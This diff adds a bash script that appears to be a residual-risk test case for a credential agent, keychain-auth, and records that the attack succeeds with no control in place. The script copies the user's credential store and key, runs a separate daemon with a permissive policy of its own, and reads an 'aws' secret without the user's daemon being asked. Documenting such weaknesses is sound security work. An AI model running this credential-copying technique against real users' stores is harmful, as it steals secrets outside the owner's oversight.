@@ -1,0 +1,23 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: MIT
+# attack: copies the store and its key, and opens them with a daemon and a policy of its own
+# expects: released
+# control: none
+# kind: residual
+# removed-by: passphrase, system mode
+# cost: -
+#
+# Nothing of it stands in the user's record: the user's daemon isn't asked.
+set -euo pipefail
+
+copy=$HOME/copy
+mkdir -m 0700 "$copy"
+cp -r "$HOME/.keychain-auth" "$copy"
+export HOME=$copy XDG_RUNTIME_DIR=$copy
+export KEYCHAIN_AUTH_SOCKET=$copy/keychain-auth/agent.sock
+
+keychain-auth register "$(command -v kcget)" --read aws >&2
+keychain-auth start --store file >&2
+kcget aws prize
+keychain-auth stop >&2
+echo "reason: released"
